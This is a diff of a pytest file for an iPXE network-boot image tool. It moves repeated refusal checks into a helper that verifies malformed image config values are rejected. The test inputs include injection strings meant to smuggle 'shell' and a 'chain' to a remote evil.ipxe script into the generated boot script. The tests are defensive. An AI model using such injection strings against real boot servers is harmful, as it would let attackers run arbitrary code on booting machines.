@@ -36,6 +36,19 @@ def refused(result: subprocess.CompletedProcess, path: Path, expected: str,
 
 # ---------------------------------------------------------------- 1. the iPXE script
 
+def image_conf_refused(name: str, settings: str, expected: str, image_files: dict,
+                       config_dir: Path, state_dir: Path) -> None:
+    """images.d/NAME.conf with the image's kernel and settings: add-image
+    and check both refuse it, naming expected, and change nothing."""
+    assert add(image_files, config_dir, state_dir).returncode == 0
+    conf = config_dir / "images.d" / f"{name}.conf"
+    conf.write_text(f"kernel = {image_files['vmlinuz']}\n{settings}\n")
+    before = tree(config_dir), tree(state_dir)
+    for command in (["add-image", name], ["check"]):
+        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
+        refused(result, conf, expected, before, config_dir, state_dir)
+
+
 @pytest.mark.parametrize("description", [
     "'''Compute\nshell\nchain http://198.18.9.9/evil.ipxe'''",
     "x || shell",
@@ -43,14 +56,9 @@ def refused(result: subprocess.CompletedProcess, path: Path, expected: str,
 ])
 def test_description_cannot_reach_the_ipxe_script(description, image_files, config_dir,
                                                    state_dir):
-    assert add(image_files, config_dir, state_dir).returncode == 0
-    conf = config_dir / "images.d" / "evil.conf"
-    conf.write_text(f"kernel = {image_files['vmlinuz']}\ndescription = {description}\n")
-    before = tree(config_dir), tree(state_dir)
-    for command in (["add-image", "evil"], ["check"]):
-        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
-        refused(result, conf, "description: must be one line of printable ASCII", before,
-                config_dir, state_dir)
+    image_conf_refused("evil", f"description = {description}",
+                       "description: must be one line of printable ASCII", image_files,
+                       config_dir, state_dir)
     script = (state_dir / "current" / "boot" / "boot.ipxe").read_text()
     assert "shell" not in script and "evil" not in script
 
@@ -67,14 +75,9 @@ def test_description_option_is_checked_the_same_way(image_files, config_dir, sta
 @pytest.mark.parametrize("method", ["qemu", "exec", "kexex"])
 def test_a_method_that_is_not_built_is_refused(method, image_files, config_dir, state_dir):
     """A value we accept must do what it says: only kexec boots an image."""
-    assert add(image_files, config_dir, state_dir).returncode == 0
-    conf = config_dir / "images.d" / "vm.conf"
-    conf.write_text(f"kernel = {image_files['vmlinuz']}\nmethod = {method}\n")
-    before = tree(config_dir), tree(state_dir)
-    for command in (["add-image", "vm"], ["check"]):
-        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
-        refused(result, conf, f"method: '{method}': this version boots an image by kexec only",
-                before, config_dir, state_dir)
+    image_conf_refused("vm", f"method = {method}",
+                       f"method: '{method}': this version boots an image by kexec only",
+                       image_files, config_dir, state_dir)
 
 
 # ---------------------------------------------------------------- 2. [server] interface
